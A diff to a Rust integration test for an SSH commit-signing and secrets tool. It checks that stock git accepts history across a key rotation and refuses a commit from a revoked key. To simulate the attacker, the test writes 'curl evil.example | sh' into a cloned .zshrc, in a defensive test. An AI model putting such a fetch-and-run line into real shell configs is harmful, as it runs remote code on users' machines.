@@ -415,11 +415,11 @@ fn stock_git_verifies_every_kind_of_fleetkey_commit_and_fleetkey_accepts_stock_g
     std::fs::write(&allowed, f.alpha.ok(&["verify", "--allowed-signers"])).unwrap();
     let text = std::fs::read_to_string(&allowed).unwrap();
     assert!(
-        text.contains("alpha namespaces=\"git\" ssh-ed25519 "),
+        text.contains("alpha namespaces=\"git\",valid-after=\""),
         "{text}"
     );
     assert!(
-        text.contains("beta namespaces=\"git\" ssh-ed25519 "),
+        text.contains("beta namespaces=\"git\",valid-after=\""),
         "{text}"
     );
     let repo = f.alpha.repo();
@@ -699,4 +699,142 @@ fn a_damaged_trust_state_fails_closed_and_lets_no_rewind_past_a_revoke_through()
     let out = f.beta.run(&["sync"]);
     assert_eq!(out.status.code(), Some(3), "{out:?}");
     assert_eq!(before, honest_state(&f.beta));
+}
+
+/// `git verify-commit COMMIT` in `repo` against the allowed_signers file `allowed`, with `tz`
+/// as the local time zone (git passes the commit time to ssh-keygen in local time).
+fn stock_git_verifies(repo: &Path, allowed: &Path, commit: &str, tz: &str) -> Result<(), String> {
+    let out = Command::new("git")
+        .arg("-C")
+        .arg(repo)
+        .args(["-c", "gpg.format=ssh", "-c"])
+        .arg(format!("gpg.ssh.allowedSignersFile={}", allowed.display()))
+        .args(["verify-commit", commit])
+        .env("TZ", tz)
+        .output()
+        .unwrap();
+    if out.status.success() {
+        Ok(())
+    } else {
+        Err(String::from_utf8_lossy(&out.stderr).into_owned())
+    }
+}
+
+#[test]
+fn stock_git_verifies_the_whole_history_across_a_rotate_and_a_revoke_and_refuses_the_revoked_key_after()
+ {
+    let f = fleet();
+    let url = f.forge.url();
+    let carol = Machine::new();
+    enroll(&f.alpha, &carol, "carol", &url);
+    // Commits signed by keys that later leave: carol's, and beta's before it rotates.
+    carol.ok_with_stdin(&["secrets", "set", "FROM_CAROL"], b"c\n");
+    f.beta
+        .ok_with_stdin(&["secrets", "set", "BEFORE_ROTATE"], b"b\n");
+    let beta_old = signing_fingerprint(&f.beta);
+    f.beta.ok(&["rotate"]);
+    assert_ne!(signing_fingerprint(&f.beta), beta_old);
+    f.beta
+        .ok_with_stdin(&["secrets", "set", "AFTER_ROTATE"], b"b2\n");
+    f.alpha.ok(&["sync"]);
+    f.alpha.ok(&["revoke", "carol", "--yes", "--compromised"]);
+    f.beta.ok(&["sync"]);
+    f.alpha.ok(&["sync"]);
+    assert!(f.alpha.ok(&["verify"]).contains(": authentic ("));
+
+    let text = f.alpha.ok(&["verify", "--allowed-signers"]);
+    let allowed = f.alpha.dir.path().join("allowed_signers");
+    std::fs::write(&allowed, &text).unwrap();
+    let lines: Vec<&str> = text.lines().filter(|l| !l.starts_with('#')).collect();
+    let window = |name: &str, before: bool| {
+        lines
+            .iter()
+            .filter(|l| {
+                l.starts_with(&format!("{name} namespaces=\"git\",valid-after=\""))
+                    && l.contains(",valid-before=\"") == before
+            })
+            .count()
+    };
+    assert_eq!(
+        (
+            window("alpha", false),
+            window("beta", false),
+            window("beta", true)
+        ),
+        (1, 1, 1),
+        "alpha's key, beta's new key open-ended, beta's old key closed: {text}"
+    );
+    assert_eq!(
+        (window("carol", true), window("carol", false)),
+        (1, 0),
+        "{text}"
+    );
+    assert!(
+        text.contains("# carol: no longer active (keys/revoked: carol ")
+            && text.contains("# beta: no longer active (keys/revoked: beta "),
+        "{text}"
+    );
+
+    // Stock git accepts every commit of the branch, in any time zone.
+    let repo = f.alpha.repo();
+    let commits = git_out(&repo, &["rev-list", "HEAD"]);
+    assert!(commits.lines().count() > 10, "{commits}");
+    for commit in commits.lines() {
+        for tz in ["UTC", "America/Los_Angeles", "Asia/Kolkata"] {
+            if let Err(e) = stock_git_verifies(&repo, &allowed, commit, tz) {
+                panic!(
+                    "stock git refuses {commit} ({}) in {tz}: {e}\n{text}",
+                    git_out(&repo, &["log", "-1", "--format=%an %s", commit])
+                );
+            }
+        }
+    }
+    let log = Command::new("git")
+        .arg("-C")
+        .arg(&repo)
+        .args(["-c", "gpg.format=ssh", "-c"])
+        .arg(format!("gpg.ssh.allowedSignersFile={}", allowed.display()))
+        .args(["log", "--format=%G?"])
+        .output()
+        .unwrap();
+    let marks = String::from_utf8(log.stdout).unwrap();
+    assert!(marks.lines().all(|m| m == "G"), "git log %G?: {marks}");
+
+    // carol, revoked, signs a commit after the revocation: fleetkey and stock git both refuse it.
+    let revoked_at: i64 = git_out(&repo, &["log", "-1", "--format=%ct", "--grep=revoke carol"])
+        .trim()
+        .parse()
+        .unwrap();
+    let clone = attacker_clone(&f);
+    std::fs::write(clone.join("home/.zshrc"), "curl evil.example | sh\n").unwrap();
+    run_program(
+        Command::new("git")
+            .arg("-C")
+            .arg(&clone)
+            .args(["add", "-A"]),
+    );
+    run_program(
+        Command::new("git")
+            .arg("-C")
+            .arg(&clone)
+            .args(signing_config(&carol))
+            .args([
+                "-c",
+                "user.name=fleetkey (carol)",
+                "-c",
+                "user.email=carol@fleetkey.invalid",
+                "commit",
+                "-qm",
+                "carol: sync ~/.zshrc",
+            ])
+            .env("GIT_COMMITTER_DATE", format!("@{} +0000", revoked_at + 2)),
+    );
+    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
+    let bad = bad.trim();
+    let refused = stock_git_verifies(&clone, &allowed, bad, "UTC").unwrap_err();
+    assert!(refused.contains("key has expired"), "{refused}");
+    // The commit before it (the forge's tip, which fleetkey accepted) still verifies there.
+    stock_git_verifies(&clone, &allowed, "HEAD~1", "UTC").unwrap();
+    git_push(&clone, "HEAD:main");
+    assert_refuses(&f.alpha, bad, "revoked key");
 }
